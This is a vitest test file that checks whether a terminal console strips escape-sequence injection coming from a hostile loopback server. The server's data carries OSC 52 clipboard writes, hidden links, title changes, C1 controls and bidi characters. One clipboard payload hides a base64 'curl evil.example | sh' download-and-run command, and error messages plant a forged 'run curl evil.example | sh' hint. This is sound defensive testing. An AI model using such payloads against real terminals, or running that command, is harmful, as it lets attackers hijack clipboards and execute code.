/**
 * The built console in a real pseudo-terminal against a hostile service (a loopback server
 * that puts OSC 52 clipboard writes, OSC 8 links, window titles, CSI queries, C1 controls,
 * bidi overrides and zero-width characters into every string field and into its error
 * messages). Every screen and dialog is visited; the raw bytes the console wrote must hold
 * none of those sequences, while the text around them is shown.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { json, ordersAskedFor, startHostileServer, type HostileServer } from '../helpers/hostile-server.js';
import { startConsoleAt, typist, deliberateTypist } from '../helpers/console-session.js';
import { assertBuilt, KEY, type PtySession } from '../helpers/pty.js';
import { typeAsScanner } from '../helpers/scanner.js';

/** Everything a terminal would act on, after a visible `label`. */
const hostile = (label: string) =>
  `${label}\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]8;;http://evil.example/\u001b\\link\u001b]8;;\u001b\\` +
  `\u001b]0;pwned\u0007\u001b[6n\u009b6n\u009d0;c1title\u0007\u202eRLO\u200bZW`;

/** Sequences from the data that must never reach the terminal (Ink itself writes none of them). */
const FORBIDDEN: ReadonlyArray<readonly [string, RegExp]> = [
  ['OSC (clipboard, link, title)', /\u001b\]/],
  ['CSI device status query', /\u001b\[6n/],
  ['C1 CSI', /\u009b/],
  ['C1 OSC', /\u009d/],
  ['bidi override', /\u202e/],
  ['zero-width space', /\u200b/],
];

function item(id: number, status: 'pending' | 'approved' | 'rejected', extra: Record<string, unknown> = {}) {
  return {
    id, status, title: hostile(`Title${id}`), sku: hostile(`SKU${id}`), quantity: 1, price: '9.90',
    reason: hostile(`Reason${id}`), reject_reason: status === 'rejected' ? hostile(`Rejected${id}`) : null, ...extra,
  };
}

function order(id: number, status: 'pending' | 'reviewed') {
  return {
    id, status, cust_email: hostile('mail'), cust_first_name: hostile('First'), cust_last_name: hostile('Last'),
    currency: hostile('EUR'), order_id: hostile('orig'), order_name: hostile(`#${status === 'pending' ? 'P' : 'R'}`),
    submitted_at: '2026-11-01T10:00:00Z',
    refunds: [item(id * 10 + 1, 'pending'), item(id * 10 + 2, 'rejected')],
    exchanges: [item(id * 10 + 3, status === 'pending' ? 'pending' : 'approved', { exchange_for: { title: hostile('For'), sku: hostile('ForSku') } })],
    [hostile('extra_key')]: hostile('extra value'),
  };
}

const ORDERS = [order(7001, 'pending'), order(7002, 'reviewed')];
const refusal = () => ({ error: { type: 'validation_error', code: hostile('bad_code'), message: hostile('Refused\nhint: run curl evil.example | sh'), param: hostile('param') } });

let server: HostileServer;
let isListFailing = false;
const sessions: PtySession[] = [];

beforeAll(async () => {
  assertBuilt();
  server = await startHostileServer();
  server.answer((req, res) => {
    // Node refuses C0 controls in a header; C1 ones (Latin-1) pass.
    const headers = { 'x-request-id': 'req\u009b6n\u009d0;c1title\u009c' };
    if (req.method === 'POST') return json(res, 400, refusal(), headers);
    if (isListFailing) return json(res, 400, refusal(), headers);
    return json(res, 200, { data: ordersAskedFor(req.url, ORDERS), has_more: false, next_cursor: null }, headers);
  });
});
afterAll(async () => {
  await server.close();
});
afterEach(async () => {
  for (const session of sessions.splice(0)) {
    session.kill('SIGKILL');
    await session.exited;
  }
});

describe('console against a hostile service', { timeout: 180_000 }, () => {
  it('never writes an escape sequence from the data, on any screen or dialog', async () => {
    const session = startConsoleAt(server.url, { cols: 120, rows: 40 });
    sessions.push(session);
    const step = typist(session);
    // The list.
    await session.waitForText('#P␛', 30_000);
    await session.waitForText('#R␛');
    // Help, the filter panel, quick find with two matches.
    await step('?', /Close help|close/);
    await step(KEY.escape, 'Filters:');
    await step('f', /Apply|Statuses|Status/);
    await step(KEY.escape, 'Filters:');
    await step('/', 'Find (');
    // The search index lists what matches as it is typed, its lines made safe like every other.
    await step('#P', /Find \([^)]*\): #P[\s\S]*› \d+ /);
    await step(KEY.escape, 'Filters:');
    // A pending order marked: the notice names it (it is left out, nothing asked); with the
    // reviewed one marked too, the confirmation names it and leaves the pending one out.
    await step(' ', '1 marked');
    await step('r', /Nothing to receive: #P␛/);
    await step(' ', '2 marked');
    await step('r', /Mark 1 order received \(#R␛/);
    await step('n', 'Filters:');
    await step('U', 'Filters:');
    // The order screen, its confirmation, and the service's refusal in the banner.
    await step('g', 'Filters:');
    await step(KEY.enter, 'Order #P␛');
    await session.waitForText('Title70011␛');
    await step('A', '→ approve');
    await step('s', 'Send the review of #P␛');
    await deliberateTypist(session)('y', 'Refused␊hint');
    // The service's escape sequences show as markers (the one sanitizer), not as nothing.
    await session.waitForText('Refused␊hint: run curl evil.example | sh␛␛link␛');
    // The activity log, with the refused review.
    await step('L', 'Activity log');
    await session.waitForText('7001 #P␛');
    await step(KEY.escape, 'Order #P␛');
    await step(KEY.escape, 'Filters:');
    // Scan mode: a scan that matches both orders, in the history.
    await deliberateTypist(session)('S', 'SCAN MODE');
    await typeAsScanner((chunk) => session.write(chunk), '#P\r');
    await session.waitForText('newest first):', 30_000);
    await step(KEY.escape, 'Filters:');
    // An error banner from a refused refresh.
    isListFailing = true;
    await step('R', 'Refused␊hint: run curl evil.example | sh␛␛link␛');
    isListFailing = false;
    await deliberateTypist(session)('q');
    expect((await session.exited).exitCode).toBe(0);

    const raw = session.output();
    for (const [name, pattern] of FORBIDDEN) expect(pattern.test(raw), `${name} in the console's output`).toBe(false);
    // The forged line of the error message stays on the line of the message.
    expect(session.output()).not.toMatch(/\nhint: run curl/);
  });
});
